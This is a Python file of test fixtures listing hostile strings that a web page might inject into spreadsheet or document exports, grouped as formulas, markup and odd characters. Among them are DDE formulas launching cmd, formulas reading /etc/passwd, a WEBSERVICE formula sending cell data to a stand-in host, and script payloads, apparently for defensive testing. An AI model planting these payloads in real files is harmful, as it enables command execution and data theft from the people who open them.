"""What a hostile page may put into a title, a cell or a sentence, by what it tries in the program that opens it."""

from collections.abc import Mapping

FORMULAS: Mapping[str, str] = {
    "formula": "=1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE": "=cmd|' /C calc'!'A1'",
    "DDE of LibreOffice": '=DDE("soffice";"/etc/passwd";"A1")',
    "web service": '=WEBSERVICE("http://192.0.2.1/?"&A1)',
    "link": '=HYPERLINK("http://192.0.2.1/","点此查看")',
    "tab before": "\t=1+1",
    "return before": "\r=1+1",
    "new line before": "\n=1+1",
    "blank before": " =1+1",
    "wide blank before": "　=1+1",
    "no width before": "\u200b=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(1)",
    "apostrophe": "'=1+1",
    "closed field": '","=1+1',
    "array formula": "{=1+1}",
}
MARKUP: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "end of text": "]]></w:t></content><evil/>",
    "entity": "&lt;b&gt; &amp; &#x41;",
    "escape of Excel": "_x0041__x000D_",
    "address": "http://192.0.2.1/evil",
    "javascript address": "javascript:alert(1)",
    "file address": "file://192.0.2.1/share",
    "mail address": "mailto:a@example.org",
    "page code": '&C&"Arial"&P',
    "field code": '{ INCLUDETEXT "/etc/passwd" }',
}
CHARACTERS: Mapping[str, str] = {
    "null": "前\x00后",
    "bell": "前\x07后",
    "escape": "前\x1b[31m后",
    "no character": "前\ufffe\uffff后",
    "half a character": "前\ud800后",
    "reversed": "前\u202e后",
    "line separator": "前\u2028后",
    "rare character": "前\U00020bb7后",
    "quotes": "\"双\" '单' “中”",
    "long": "长" * 40_000,
}
INJECTIONS: Mapping[str, str] = {**FORMULAS, **MARKUP, **CHARACTERS}
